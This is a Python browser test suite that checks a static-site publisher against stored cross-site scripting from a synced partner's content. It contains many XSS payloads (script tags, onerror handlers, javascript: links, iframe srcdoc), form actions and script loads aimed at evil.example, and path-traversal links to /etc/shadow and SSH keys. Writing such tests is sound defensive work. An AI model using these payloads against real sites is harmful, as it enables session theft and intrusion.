"""A partner's content, published by `copart site`, opened in real headless chromium.

Each test is one attack: bob pushes hostile entries and a hostile profile to a bare hub,
alice brings them with a real `copart sync` and publishes with `copart site` (both must exit
0: content is data), then opens the pages from disk as a reader does. Held means: nothing of
bob's runs (no dialog, no `window.__pwned*` flag, no navigation away), every link stays
inside the site or is http(s)/mailto, and every page carries the Content-Security-Policy
that blocks a stored script even if one got past the sanitiser.
"""

from __future__ import annotations

import json
import time
from pathlib import Path
from urllib.parse import quote, unquote, urlsplit


from tests.browser import browser, needs_browser  # noqa: F401 - browser is a fixture
from tests.synckit import join, start_hub

pytestmark = needs_browser

PWNED = "Object.keys(window).filter(k => k.startsWith('__pwned'))"
# recorded before any of the page's own code runs (DevTools scripts are not subject to the CSP)
WATCH_CSP = ("window.__csp = []; document.addEventListener('securitypolicyviolation', "
             "e => window.__csp.push([e.violatedDirective, e.blockedURI]), true);")

BODY = """\
Hello <script>window.__pwned_script = 1; alert("script")</script> there.

<img src="x" onerror="window.__pwned_img = 1; alert('img')">

[a javascript link](javascript:window.__pwned_link=1) and <a href="javascript:window.__pwned_a=1">another</a>
and <a href="JaVaScRiPt:alert(3)" onclick="window.__pwned_click=1">a third</a>,
[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) and
<a href="data:text/html,<script>alert(8)</script>">a data anchor</a>.

<svg onload="window.__pwned_svg = 1"><script>window.__pwned_svgscript = 1</script><circle r="5"></circle></svg>
<iframe src="javascript:window.top.__pwned_iframe = 1" srcdoc="<script>top.__pwned_srcdoc=1</script>"></iframe>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<form action="https://evil.example/steal"><input name="pw" autofocus onfocus="window.__pwned_focus=1">
<button formaction="javascript:window.__pwned_form=1">go</button></form>
<object data="javascript:window.__pwned_object=1"></object><embed src="javascript:window.__pwned_embed=1">
<base href="https://evil.example/">
<details open ontoggle="window.__pwned_toggle=1"><summary>more</summary>x</details>
<style>body { display: none }</style>

The end of a hostile body.
"""

HOSTILE_TITLE = "Mallory's <img src=x onerror=window.__pwned_title=1> tale </title><script>window.__pwned_t2=1</script>"

OUTWARD = """\
Try [the password file](../../etc/passwd), [deeper](../../../../../../../../etc/shadow),
[absolute](file:///etc/passwd), <a href="file:///root/.ssh/id_ed25519">a key</a>,
[rooted](/etc/passwd), <a href="//evil.example/x">protocol-relative</a>,
[[../../etc/passwd]], ![a picture](../../../../etc/passwd) and <img src="file:///etc/hostname">,
<a href="%2e%2e/%2e%2e/%2e%2e/etc/passwd">encoded</a> and [home](~/.ssh/id_ed25519).
"""


def _story(id_: str, title: str, body: str, author: str = "mallory", tags: str = "[security]") -> str:
    return (f"---\nid: {id_}\nkind: story\ntitle: {json.dumps(title)}\nauthor: {author}\n"
            f"created: 2026-03-01T10:00:00Z\ntopics: [pricing]\ntags: {tags}\n---\n{body}")


MALLORY = """\
---
id: mallory
kind: member
title: "Mallory <script>window.__pwned_member_title=1</script>"
name: "Mallory <img src=x onerror=window.__pwned_name=1>"
author: mallory
created: 2026-01-01T10:00:00Z
roles: [partner]
expertise: ["<svg onload=window.__pwned_expertise=1>"]
offers: ["<a href=javascript:window.__pwned_offer=1>free money</a>"]
needs: ["<iframe src=javascript:top.__pwned_need=1>"]
location: "<script>window.__pwned_location=1</script>"
accreditations: ["<img src=x onerror=window.__pwned_acc=1>"]
joined: 2026-01-01
status: active
tags: ["<script>window.__pwned_tag=1</script>", "x\\" onmouseover=\\"window.__pwned_tagattr=1"]
---
## About
<script>window.__pwned_bio = 1</script><img src=x onerror="window.__pwned_bioimg=1"> I am quite harmless.
"""


# -- the world: bob pushes, alice syncs and publishes ---------------------------------------------


def _published(world, files: dict[str, str]) -> tuple[Path, object]:
    """bob pushes `files` to the hub; alice syncs them and builds her site; the site folder."""
    alice, bob = world.partner("alice"), world.partner("bob")
    rep_a, url = start_hub(world, alice)
    rep_b = join(bob, url)
    for rel, text in files.items():
        (rep_b / rel).parent.mkdir(parents=True, exist_ok=True)
        (rep_b / rel).write_text(text, encoding="utf-8")
    bob.git("add", "-A", cwd=rep_b)
    bob.git("commit", "-qm", "some stories", cwd=rep_b)
    bob.git("push", "-q", "origin", "main", cwd=rep_b)
    synced = alice.copart("sync", cwd=rep_a)
    assert synced.ok, synced
    for rel in files:
        assert (rep_a / rel).is_file(), f"{rel} did not arrive by sync"
    out = world.base / "site"
    built = alice.copart("site", str(out), cwd=rep_a, timeout=300)
    assert built.ok, built
    return out.resolve(), alice


def _open(browser, url: str) -> None:
    """Open a page with the CSP watch installed, and give timers and refreshes time to fire."""
    browser.call("Page.addScriptToEvaluateOnNewDocument", {"source": WATCH_CSP}, session=True)
    browser.goto(url)
    time.sleep(0.4)


def _nothing_ran(browser, url: str) -> None:
    mark = len(browser.events)
    time.sleep(0.6)  # a meta refresh of 0 s or a timer would have fired by now
    assert browser.dialogs() == [], browser.dialogs()
    assert browser.js(PWNED) == [], browser.js(PWNED)
    assert browser.js("location.href") == url
    top = browser.call("Page.getFrameTree", session=True)["frameTree"]["frame"]["id"]
    moved = [e for e in browser.events[mark:] if e.get("method") in (
        "Page.frameNavigated", "Page.frameScheduledNavigation", "Page.frameRequestedNavigation")
        and (e["params"].get("frame") or {}).get("id", e["params"].get("frameId")) == top]  # the page, not a frame in it
    assert moved == [], moved
    assert browser.js("getComputedStyle(document.body).display") != "none"


def _url(out: Path, rel: str) -> str:
    return out.as_uri() + "/" + rel


# -- the attacks -----------------------------------------------------------------------------------


def test_a_hostile_entry_body_runs_nothing_in_the_opened_page(world, browser):
    out, _ = _published(world, {"stories/a-hostile-body.md": _story("a-hostile-body", "A hostile body", BODY,
                                                                       author="jfawcett")})
    url = _url(out, "stories/a-hostile-body.html")
    _open(browser, url)
    _nothing_ran(browser, url)
    assert "The end of a hostile body." in browser.js("document.querySelector('.body').textContent")
    assert browser.js("document.querySelectorAll('main script, main iframe, main svg, main form, main object,"
                      " main embed, main meta, main base, main style').length") == 0
    assert browser.js("document.baseURI") == url  # no <base> took over the page's links
    assert browser.js("[...document.querySelectorAll('[href],[src],[action],[formaction]')].filter(e =>"
                      " /^\\s*(javascript|data):/i.test(e.getAttribute('href') || e.getAttribute('src') ||"
                      " e.getAttribute('action') || e.getAttribute('formaction') || '')).length") == 0
    # a reader hovers and focuses everything and clicks what is left of bob's links (none of
    # which leads anywhere: the body has no real link): still nothing runs
    browser.js("document.querySelectorAll('main *').forEach(e => { e.dispatchEvent(new MouseEvent('mouseover',"
               " {bubbles: true})); e.focus && e.focus(); });"
               " document.querySelectorAll('.body a, .body button, .body summary').forEach(e => e.click())")
    time.sleep(0.3)
    _nothing_ran(browser, url)


def test_a_hostile_title_tags_and_profile_run_nothing_on_member_home_and_search(world, browser):
    files = {"members/mallory.md": MALLORY,
             "stories/mallorys-tale.md": _story("mallorys-tale", HOSTILE_TITLE, "Once upon a time.",
                                                tags='["<img src=x onerror=window.__pwned_etag=1>", security]')}
    out, _ = _published(world, files)
    pages = ["members/mallory.html", "stories/mallorys-tale.html", "index.html", "members.html", "stories.html",
             "search.html?q=" + quote("mallory tale"), "topics/pricing.html", "tags/security.html"]
    for rel in pages:
        url = _url(out, rel)
        _open(browser, url)
        _nothing_ran(browser, url)
    _open(browser, _url(out, "members/mallory.html"))
    assert browser.js("document.querySelector('h1').textContent") == "Mallory <img src=x onerror=window.__pwned_name=1>"
    assert "I am quite harmless." in browser.js("document.querySelector('.body').textContent")
    assert browser.js("document.querySelectorAll('main script, main svg, main iframe').length") == 0
    assert browser.js("[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
                      ".filter(n => n.startsWith('on'))") == []
    _open(browser, _url(out, "stories/mallorys-tale.html"))
    assert browser.js("document.querySelector('h1').textContent") == HOSTILE_TITLE  # shown as text
    assert browser.js("document.title").startswith("Mallory's <img")
    # every member and tag page that was made for the hostile labels is inert too
    for page in sorted(out.glob("tags/*.html")) + sorted(out.glob("members/*.html")):
        url = page.as_uri()
        _open(browser, url)
        _nothing_ran(browser, url)


def test_the_search_page_runs_neither_a_hostile_query_nor_a_hostile_result(world, browser):
    out, _ = _published(world, {"stories/mallorys-tale.md": _story("mallorys-tale", HOSTILE_TITLE,
                                                                     "A tale <script>window.__pwned_s=1</script>",
                                                                     author="jfawcett")})
    url = _url(out, "search.html")
    _open(browser, url)
    query = "<img src=x onerror=window.__pwned_q=1> \"><script>window.__pwned_q2=1</script> tale"
    browser.type("#q", query)
    browser.call("Input.dispatchKeyEvent", {"type": "keyDown", "key": "Enter", "code": "Enter",
                                            "windowsVirtualKeyCode": 13, "text": "\r"}, session=True)
    time.sleep(0.3)
    _nothing_ran(browser, url)
    # the hostile entry's title is a result, shown as text, not parsed
    hits = browser.js("[...document.querySelectorAll('#results a')].map(a => a.textContent)")
    assert HOSTILE_TITLE in hits, hits
    assert browser.js("document.querySelectorAll('#results img, #results script, #search-status *').length") == 0
    # the same query arriving in the address (a link someone sends)
    sent = url + "?q=" + quote(query)
    _open(browser, sent)
    _nothing_ran(browser, sent)
    assert HOSTILE_TITLE in browser.js("[...document.querySelectorAll('#results a')].map(a => a.textContent)")
    nothing = url + "?q=" + quote("<svg/onload=alert(zzzqqq)>zzzqqq")
    _open(browser, nothing)
    _nothing_ran(browser, nothing)
    assert "zzzqqq" in browser.js("document.getElementById('search-status').textContent")


def _outside(out: Path, href: str) -> bool:
    parts = urlsplit(href)
    if parts.scheme in ("http", "https", "mailto"):
        return False
    if parts.scheme != "file":
        return True
    target = Path(unquote(parts.path)).resolve()
    return target != out and out not in target.parents


def test_links_in_an_entry_never_lead_outside_the_site(world, browser):
    out, _ = _published(world, {"stories/the-way-out.md": _story("the-way-out", "The way out", OUTWARD,
                                                                   author="jfawcett")})
    for page in sorted(out.rglob("*.html")):  # every page, as chromium resolves its links
        _open(browser, page.as_uri())
        refs = browser.js("[...document.querySelectorAll('a[href]')].map(a => a.href).concat("
                          "[...document.querySelectorAll('[src]')].map(e => e.src))")
        bad = [h for h in refs if _outside(out, h)]
        assert bad == [], f"{page.relative_to(out)}: {bad}"
    _open(browser, _url(out, "stories/the-way-out.html"))
    assert "Try" in browser.js("document.querySelector('.body').textContent")  # still readable


def test_every_page_carries_the_csp_and_it_blocks_a_stored_script(world, browser):
    out, _ = _published(world, {"stories/a-hostile-body.md": _story("a-hostile-body", "A hostile body", BODY,
                                                                       author="jfawcett")})
    csp = None
    for page in sorted(out.rglob("*.html")):
        _open(browser, page.as_uri())
        metas = browser.js("[...document.querySelectorAll('meta[http-equiv]')]"
                           ".filter(m => m.httpEquiv.toLowerCase() === 'content-security-policy')"
                           ".map(m => [m.content, m.parentElement.tagName])")
        assert len(metas) == 1 and metas[0][1] == "HEAD", f"{page.relative_to(out)}: {metas}"
        csp = csp or metas[0][0]
        assert metas[0][0] == csp, page
    assert "script-src 'self'" in csp and "default-src 'none'" in csp and "object-src 'none'" in csp
    # were the sanitiser ever to let bob's body through, the browser itself refuses to run it
    url = _url(out, "stories/a-hostile-body.html")
    _open(browser, url)
    stored = "".join(line for line in BODY.splitlines(True) if "<meta" not in line and "<base" not in line)
    browser.js(f"document.querySelector('main').insertAdjacentHTML('beforeend', {json.dumps(stored)});"
               " var s = document.createElement('script'); s.textContent = 'window.__pwned_inline = 1';"
               " document.body.appendChild(s);"
               " var f = document.createElement('iframe'); f.srcdoc = '<script>top.__pwned_frame=1</script>';"
               " document.body.appendChild(f);"
               " var e = document.createElement('script'); e.src = 'https://evil.example/x.js';"
               " document.body.appendChild(e);")
    time.sleep(0.5)
    _nothing_ran(browser, url)
    blocked = browser.js("window.__csp")
    assert ["script-src-elem", "inline"] in blocked, blocked  # the inline <script>
    assert ["script-src-attr", "inline"] in blocked, blocked  # the img's onerror
    assert any(d == "script-src-elem" and u.startswith("https://evil.example") for d, u in blocked), blocked


def test_a_template_override_without_the_csp_that_was_not_accepted_is_not_published(world, browser):
    """anjali's contribution drops the CSP and adds an inline script to base.html; judith syncs
    and publishes without accepting it: her site keeps the CSP and runs nothing of it."""
    from tests.review_helpers import community

    c = community(world)
    anjali, judith, prep, crep = c.anjali, c.judith, c.partner_rep, c.coord_rep
    branch = "contrib/apatel/tweak/v1"
    anjali.git("checkout", "-q", "-b", branch, cwd=prep)
    base = prep / ".copart/templates/site/base.html"
    base.parent.mkdir(parents=True, exist_ok=True)
    base.write_text("<!doctype html><html><head><title>x</title></head><body>"
                    "<script>window.__pwned_override = 1</script>{% block main %}{% endblock %}</body></html>")
    anjali.git("add", "-A", cwd=prep)
    anjali.git("commit", "-q", "-S", "-m", "nicer pages\n\nCopart-Contribution: apatel/tweak\nCopart-Version: 1",
               cwd=prep)
    anjali.git("push", "-q", "origin", branch, cwd=prep)
    c.sync(judith, crep)
    assert judith.copart("review", "accept", "apatel/tweak", cwd=crep).code == 4  # not without --allow-config
    out = world.base / "site"
    built = judith.copart("site", str(out), cwd=crep, timeout=300)
    assert built.ok, built
    assert not (crep / ".copart/templates/site/base.html").exists()
    for rel in ("index.html", "search.html"):
        url = _url(out.resolve(), rel)
        _open(browser, url)
        _nothing_ran(browser, url)
        assert browser.js("document.querySelectorAll('meta[http-equiv=\"Content-Security-Policy\"]').length") == 1
        assert browser.js("[...document.scripts].filter(s => !s.src).length") == 0

